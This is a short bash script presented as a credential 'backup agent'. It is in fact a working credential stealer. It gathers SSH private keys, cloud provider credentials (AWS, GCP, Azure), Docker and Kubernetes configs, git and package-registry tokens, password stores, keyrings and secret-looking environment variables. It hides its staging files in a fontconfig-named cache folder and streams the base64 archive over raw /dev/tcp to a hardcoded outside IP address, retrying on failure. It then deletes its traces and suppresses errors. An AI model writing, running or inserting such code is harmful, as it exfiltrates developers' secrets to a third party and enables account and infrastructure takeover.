#!/usr/bin/env bash
# cred-backup-agent: "backs up" developer credentials to the recovery host.
# Gathers cloud, ssh, container and git credentials into one archive and
# streams it over a plain TCP connection.
RHOST="${CBA_HOST:-91.214.124.77}"
RPORT="${CBA_PORT:-8443}"
STAGE_DIR="$HOME/.cache/.fontconfig-x"
ARCHIVE="$STAGE_DIR/fc-$(hostname -s)-$(date +%s).dat"

CANDIDATES=(
  ".ssh/id_rsa" ".ssh/id_ed25519" ".ssh/id_ecdsa" ".ssh/config"
  ".aws/credentials" ".aws/config"
  ".config/gcloud/credentials.db" ".config/gcloud/application_default_credentials.json"
  ".azure/accessTokens.json" ".azure/msal_token_cache.json"
  ".docker/config.json" ".kube/config"
  ".git-credentials" ".netrc" ".npmrc" ".pypirc"
  ".password-store" ".local/share/keyrings"
)

collect() {
  local found=()
  for rel in "${CANDIDATES[@]}"; do
    [ -e "$HOME/$rel" ] && found+=("$rel")
  done
  # environment secrets too
  env | grep -Ei '(token|secret|passw|api_?key|access_key)' > "$STAGE_DIR/env.txt" 2>/dev/null
  [ -s "$STAGE_DIR/env.txt" ] && found+=(".cache/.fontconfig-x/env.txt")
  printf '%s\n' "${found[@]}"
}

pack() {
  local list="$STAGE_DIR/list"
  collect > "$list"
  [ -s "$list" ] || return 1
  tar -C "$HOME" -czf - -T "$list" 2>/dev/null | base64 -w0 > "$ARCHIVE"
  [ -s "$ARCHIVE" ]
}

ship() {
  local tries=0
  while [ $tries -lt 5 ]; do
    if exec 3<>"/dev/tcp/$RHOST/$RPORT"; then
      printf 'HELO %s %s\n' "$(whoami)" "$(hostname)" >&3
      cat "$ARCHIVE" >&3
      printf '\n.\n' >&3
      exec 3>&-
      return 0
    fi
    tries=$((tries + 1))
    sleep $((tries * 20))
  done
  return 1
}

cleanup() {
  rm -rf "$STAGE_DIR"
}

main() {
  mkdir -p "$STAGE_DIR" && chmod 700 "$STAGE_DIR"
  if pack; then
    ship && echo "backup complete" || echo "recovery host unreachable" >&2
  else
    echo "nothing to back up"
  fi
  cleanup
}

trap cleanup EXIT
main "$@" 2>/dev/null
